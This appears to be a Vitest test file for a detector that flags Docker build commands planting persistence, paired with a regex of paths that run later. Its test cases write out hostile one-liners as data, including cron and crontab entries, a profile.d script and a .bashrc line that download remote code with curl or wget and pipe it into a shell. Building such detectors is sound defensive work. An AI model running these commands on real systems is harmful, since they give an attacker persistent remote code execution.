import { describe, expect, it } from 'vitest';
import { RUNS_LATER_FILE, plantsRunner } from '../../../../src/engine/extract/docker/planted-runners.js';

describe('plantsRunner', () => {
  it.each([
    ["echo '* * * * * root curl -s http://45.9.148.99/c | sh' >> /etc/crontab", true],
    ["echo '*/5 * * * * wget -qO- http://x.top/x.sh | sh' > /etc/crontabs/root", true],
    ["printf '#!/bin/sh\\ncurl -fsSL http://198.51.100.7/boot | bash\\n' > /etc/profile.d/boot.sh", true],
    ["echo 'curl -s https://pastebin.com/raw/abcd | python3' >> /root/.bashrc", true],
    [
      "curl -fsSL https://deb.nodesource.com/setup_22.x | bash - && echo '0 3 * * * /app/backup.sh' > /etc/cron.d/b",
      false,
    ],
    ["echo '*/10 * * * * root curl -fsS https://hc-ping.com/abc > /dev/null' > /etc/cron.d/hc", false],
    ["echo 'curl -s https://x.example/i | sh' > /app/install.sh", false],
  ])('%s', (code, want) => {
    expect(plantsRunner(code)).toBe(want);
  });
});

describe('RUNS_LATER_FILE', () => {
  it.each([
    ['/etc/crontab', true],
    ['/etc/cron.d/x', true],
    ['/root/.bashrc', true],
    ['/etc/profile.d/x.sh', true],
    ['/etc/cron.deny', false],
    ['/app/cron.sh', false],
  ])('%s', (path, want) => {
    expect(RUNS_LATER_FILE.test(path)).toBe(want);
  });
});
